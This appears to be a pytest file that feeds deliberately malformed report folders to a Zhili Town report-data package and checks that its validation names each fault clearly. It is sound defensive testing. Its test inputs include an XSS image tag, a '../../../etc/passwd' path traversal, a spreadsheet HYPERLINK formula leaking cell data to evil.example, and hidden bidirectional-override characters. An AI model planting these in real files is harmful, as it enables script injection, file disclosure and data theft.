"""Malformed report folders and curated files, made as a careless or hostile user would make them,
on copies in temporary folders: every entry point (`zhili validate`, `show`, `coverage`, `export` and
load_figures()) answers with a message naming the file (and line, row or key), never a traceback,
and load_figures() refuses what `zhili validate` refuses."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from zhili_data.core.catalog import get_report

REPORT = get_report().id
COLUMNS = len(get_report().figures_path.read_text(encoding="utf-8").splitlines()[0].split(","))

# Runs every entry point in one fresh interpreter against the catalogue in ZHILI_REPORTS_DIR.
PROBE = textwrap.dedent(
    r"""
    import contextlib, io, json, sys, traceback
    from zhili_data.cli import main

    results = {}
    for name, argv in [
        ("validate", ["validate"]),
        ("show", ["show", "gdp"]),
        ("coverage", ["coverage"]),
        ("export", ["export", "--out", sys.argv[1]]),
    ]:
        err, out = io.StringIO(), io.StringIO()
        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
            try:
                code = main(argv)
            except SystemExit as stop:
                code = stop.code
            except BaseException:
                code, err = "traceback", io.StringIO(traceback.format_exc())
        results[name] = {"code": code, "stderr": err.getvalue(), "stdout": out.getvalue()}
    try:
        import zhili_data
        zhili_data.load_figures(sys.argv[2])
        results["load_figures"] = {"code": 0, "stderr": ""}
    except Exception as error:
        try:
            from zhili_data.exceptions import ZhiliError
        except ImportError:  # a version of the package without it: every error is unexplained
            ZhiliError = ()
        kind = "clear" if isinstance(error, ZhiliError) else "traceback"
        results["load_figures"] = {"code": kind, "stderr": f"{type(error).__name__}: {error}"}
    print(json.dumps(results))
    """
)


def _catalogue(tmp_path: Path) -> Path:
    folder = tmp_path / "reports" / REPORT
    shutil.copytree(get_report().folder, folder)
    return folder


def _probe(tmp_path: Path, report: str = REPORT) -> dict:
    env = {
        **os.environ,
        "ZHILI_REPORTS_DIR": str(tmp_path / "reports"),
        "ZHILI_CACHE_DIR": str(tmp_path / "cache"),
        "PYTHONIOENCODING": "utf-8",
    }
    env.pop("ZHILI_SKIP_VALIDATION", None)
    done = subprocess.run(
        [sys.executable, "-c", PROBE, str(tmp_path / "export"), report],
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout.strip().splitlines()[-1])


def _replace(path: Path, old: str, new: str, count: int = 1) -> None:
    text = path.read_text(encoding="utf-8")
    assert text.count(old) >= 1, old
    path.write_text(text.replace(old, new, count), encoding="utf-8")


def _toml(folder):
    return folder / "report.toml"


def _figures(folder):
    return folder / "figures.csv"


def _source(folder):
    return folder / get_report().source_file


def _new_source(folder: Path, content: bytes) -> None:
    """Replace the source text and record its sha256, as a curator who edited it on purpose would."""
    import hashlib

    _source(folder).write_bytes(content)
    _replace(_toml(folder), get_report().source_sha256, hashlib.sha256(content).hexdigest())


def _link_out(folder: Path) -> None:
    """exclusions.csv as a symbolic link to a copy outside the catalogue."""
    outside = folder.parents[2] / "elsewhere.csv"
    shutil.copy(folder / "exclusions.csv", outside)
    (folder / "exclusions.csv").unlink()
    (folder / "exclusions.csv").symlink_to(outside)


HYPERLINK = '=HYPERLINK("http"&":"&"//evil.example/?q="&A1,"GDP")'


BREAKS = {
    "report.toml: misspelt key": (
        lambda f: _replace(_toml(f), "title_en =", "titel_en ="),
        "report.toml:5: unknown key 'titel_en' (did you mean 'title_en'?)",
    ),
    "report.toml: missing key": (
        lambda f: _replace(_toml(f), 'venue_en = "10th session of the 18th People\'s Congress of Zhili Town"\n', ""),
        "missing key(s) venue_en",
    ),
    "report.toml: date as text": (
        lambda f: _replace(_toml(f), "delivered = 2021-08-06", 'delivered = "2021-08-06"'),
        "report.toml:8: delivered = '2021-08-06' is text; write the date as a TOML date, without quotes",
    ),
    "report.toml: number for text": (
        lambda f: _replace(_toml(f), 'title = "织里镇人民政府工作报告"', "title = 3"),
        "report.toml:4: title must be text (a quoted TOML string), not an integer",
    ),
    "report.toml: broken TOML": (
        lambda f: _replace(_toml(f), 'title = "织里镇人民政府工作报告"', 'title = "织里镇人民政府工作报告'),
        "report.toml: not valid TOML: ",
    ),
    "report.toml: not UTF-8": (
        lambda f: _toml(f).write_bytes(_toml(f).read_text(encoding="utf-8").encode("gb18030")),
        "report.toml: not UTF-8 text",
    ),
    "report.toml: markup in a title": (
        lambda f: _replace(
            _toml(f), 'title_en = "Government Work Report of Zhili Town"', 'title_en = "<img src=x onerror=alert(1)>"'
        ),
        "report.toml:5: title_en='<img src=x onerror=alert(1)>': markup-like text ('<', '>')",
    ),
    "report.toml: source outside the folder": (
        lambda f: _replace(
            _toml(f),
            'source_file = "zhili-2021-midyear-government-work-report.txt"',
            'source_file = "../../../etc/passwd"',
        ),
        "source_file '../../../etc/passwd' must be a file name in the report's folder, not a path",
    ),
    "half-added folder: no report.toml": (lambda f: _toml(f).unlink(), "the report folder is incomplete: report.toml"),
    "half-added folder: no figures.csv": (
        lambda f: _figures(f).unlink(),
        "the report folder is incomplete: figures.csv missing",
    ),
    "exclusions.csv: misspelt header": (
        lambda f: _replace(f / "exclusions.csv", "mention,", "mentoin,"),
        "exclusions.csv:1 mentoin: unknown column 'mentoin' (did you mean 'mention'?); expected columns: "
        "mention, context, reason, figure_id, note",
    ),
    "figures.csv: misspelt header": (
        lambda f: _replace(_figures(f), ",indicator,", ",indicatr,"),
        "figures.csv:1 indicatr: unknown column 'indicatr' (did you mean 'indicator'?); expected columns: report_id,",
    ),
    "figures.csv: not UTF-8": (
        lambda f: _figures(f).write_bytes(
            _figures(f).read_bytes().replace("地区生产总值".encode(), "地区生产总值".encode("gb18030"), 1)
        ),
        "figures.csv:3: not UTF-8 text (byte 0xb5",
    ),
    "figures.csv: a field too many": (
        lambda f: _replace(_figures(f), ",181,亿元,", ",181,亿元,,"),
        f"figures.csv:3: {COLUMNS + 1} fields, but the header names {COLUMNS} columns",
    ),
    "figures.csv: a stray quote": (
        lambda f: _replace(_figures(f), ",181,亿元,", ',"181,亿元,'),
        "figures.csv:3: not a well-formed CSV row",
    ),
    "figures.csv: NUL byte": (
        lambda f: _figures(f).write_bytes(_figures(f).read_bytes().replace(b",181,", b",1\x0081,", 1)),
        "figures.csv:3 [gdp_2021h1_actual] value='1\\x0081': not allowed",
    ),
    "figures.csv: empty": (lambda f: _figures(f).write_bytes(b""), "figures.csv:1: no header"),
    "figures.csv: value 182 against 181亿元": (
        lambda f: _replace(_figures(f), ",181,亿元,", ",182,亿元,"),
        "figures.csv:3 [gdp_2021h1_actual] value='182': figure_text '181亿元' reads 181",
    ),
    "figures.csv: a negative value": (
        lambda f: _replace(_figures(f), ",181,亿元,", ",-181,亿元,"),
        "figures.csv:3 [gdp_2021h1_actual] value='-181'",
    ),
    "figures.csv: not a number": (
        lambda f: _replace(_figures(f), ",181,亿元,", ",一百八十一,亿元,"),
        "figures.csv:3 [gdp_2021h1_actual] value='一百八十一'",
    ),
    "figures.csv: unknown unit": (
        lambda f: _replace(_figures(f), ",181,亿元,元,", ",181,亿英镑,元,"),
        "figures.csv:3 [gdp_2021h1_actual] unit='亿英镑'",
    ),
    "figures.csv: basis=guess": (
        lambda f: _replace(
            _figures(f),
            "gdp_2021h1_actual,gdp,地区生产总值,GDP,economy,2021H1,actual,",
            "gdp_2021h1_actual,gdp,地区生产总值,GDP,economy,2021H1,guess,",
        ),
        "figures.csv:3 [gdp_2021h1_actual] basis='guess': not allowed; allowed: one of: actual, target",
    ),
    "figures.csv: duplicated figure_id": (
        lambda f: _replace(_figures(f), "gdp_2021h1_actual_growth,", "gdp_2021h1_actual,"),
        "repeats the figure_id of line 3",
    ),
    "figures.csv: markup in indicator": (
        lambda f: _replace(_figures(f), ",地区生产总值,GDP,", ",<img src=x onerror=alert(1)>,GDP,"),
        "figures.csv:3 [gdp_2021h1_actual] indicator='<img src=x onerror=alert(1)>': markup-like text ('<', '>') "
        "is not allowed in free text; allowed: ",
    ),
    "figures.csv: a formula in indicator": (
        lambda f: _replace(_figures(f), ",地区生产总值,GDP,", ',"' + HYPERLINK.replace('"', '""') + '",GDP,'),
        'figures.csv:3 [gdp_2021h1_actual] indicator=\'=HYPERLINK("http"&":"&"//evil.example/?q="&A1,"GDP")\': '
        "starts with '=', which a spreadsheet reads as the start of a formula",
    ),
    "figures.csv: a note starting with @SUM(": (
        lambda f: _replace(
            _figures(f), 'GDP reached 18.1 billion yuan",\n', 'GDP reached 18.1 billion yuan",@SUM(1+1)\n'
        ),
        "figures.csv:3 [gdp_2021h1_actual] note='@SUM(1+1)': starts with '@'",
    ),
    "figures.csv: a wrong number in the translation": (
        lambda f: _replace(_figures(f), "GDP reached 18.1 billion yuan", "GDP reached 28.1 billion yuan"),
        "figures.csv:3 [gdp_2021h1_actual] quote_en=\"In the first half of the year, the town's GDP reached 28.1 billion "
        "yuan\": the quote's 181亿 (18,100,000,000) is not in the translation, whose numbers are: 28.1 billion (28,100,000,000)",
    ),
    "figures.csv: 45万 translated as 45,000": (
        lambda f: _replace(_figures(f), "the town's 450,000 people", "the town's 45,000 people"),
        "figures.csv:2 [population_todate_actual] quote_en=",
    ),
    "figures.csv: a right-to-left override": (
        lambda f: _replace(_figures(f), ",地区生产总值,GDP,", ",地区生产总值,G\u202eDP,"),
        "figures.csv:3: column 'indicator_en': holds the invisible bidirectional control character U+202E",
    ),
    "report.toml: a right-to-left override in a title": (
        lambda f: _replace(_toml(f), 'title_en = "Government Work Report', 'title_en = "Government \u202eWork Report'),
        "report.toml:5: holds the invisible bidirectional control character U+202E",
    ),
    "source: GB18030, with its sha256": (
        lambda f: _new_source(f, _source(f).read_text(encoding="utf-8").encode("gb18030")),
        "is not UTF-8 text (byte 0x",
    ),
    "source: a bidirectional isolate, with its sha256": (
        lambda f: _new_source(f, _source(f).read_text(encoding="utf-8").replace("181", "1\u206681", 1).encode()),
        "holds the invisible bidirectional control character U+2066",
    ),
    "source: too large, with its sha256": (
        lambda f: _new_source(f, _source(f).read_bytes() * 120),
        "a source text may be at most 2,097,152 bytes",
    ),
    "catalogue: a symbolic link out of the report folder": (
        _link_out,
        "exclusions.csv: is a symbolic link to ",
    ),
}


def test_a_source_that_is_not_utf8_names_the_byte_and_the_encoding_to_convert_from(tmp_path):
    folder = _catalogue(tmp_path)
    text = _source(folder).read_text(encoding="utf-8")
    _new_source(folder, text.encode("gb18030"))
    first = next(i for i, ch in enumerate(text) if ord(ch) > 127)
    offset = len(text[:first].encode("gb18030"))
    results = _probe(tmp_path)
    line = text[:first].count("\n") + 1
    for name in ("validate", "load_figures"):
        assert (
            f"not UTF-8 text (byte 0x{text[first].encode('gb18030')[0]:02x} at byte offset {offset}, line {line})"
            in results[name]["stderr"]
        )
        assert "It reads as GB18030: convert it with `iconv -f GB18030 -t UTF-8`" in results[name]["stderr"]


@pytest.mark.slow
@pytest.mark.parametrize("case", list(BREAKS))
def test_malformed_input_is_named_never_a_traceback(tmp_path, case):
    breaking, expected = BREAKS[case]
    breaking(_catalogue(tmp_path))
    results = _probe(tmp_path)
    for name, result in results.items():
        assert result["code"] != "traceback", (name, result)
        assert result["code"] != 0 or name == "coverage", (
            name,
            result,
        )  # coverage counts mentions, it does not validate
        assert "Traceback" not in result["stderr"], (name, result["stderr"])
    assert expected in results["validate"]["stderr"], results["validate"]["stderr"]
    # load_figures() refuses with the same words as `zhili validate`, naming the file.
    assert expected in results["load_figures"]["stderr"], results["load_figures"]["stderr"]
    assert not (tmp_path / "export").exists() or not any((tmp_path / "export").iterdir())


@pytest.mark.slow
def test_a_half_added_second_report_is_named_and_the_first_still_loads(tmp_path):
    _catalogue(tmp_path)
    extra = tmp_path / "reports" / "zhili-2021-yearend"
    extra.mkdir()
    (extra / "report.toml").write_text('id = "zhili-2021-yearend"\ntitle = "织里镇年终报告"\n', encoding="utf-8")
    results = _probe(tmp_path)
    assert results["validate"]["code"] == 1
    assert "zhili-2021-yearend/report.toml: missing key(s) title_en, subtitle" in results["validate"]["stderr"]
    assert f"{REPORT}: figures and exclusions valid" in results["validate"]["stdout"]
    assert results["show"]["code"] == 0 and results["load_figures"]["code"] == 0
    assert "Traceback" not in json.dumps(results)
    missing_files = _probe(tmp_path, "zhili-2021-yearend")["load_figures"]
    assert missing_files["code"] == "clear" and "missing key(s)" in missing_files["stderr"]


@pytest.mark.slow
def test_the_shipped_catalogue_passes_every_entry_point(tmp_path):
    _catalogue(tmp_path)
    results = _probe(tmp_path)
    assert {name: r["code"] for name, r in results.items()} == {
        "validate": 0,
        "show": 0,
        "coverage": 0,
        "export": 0,
        "load_figures": 0,
    }
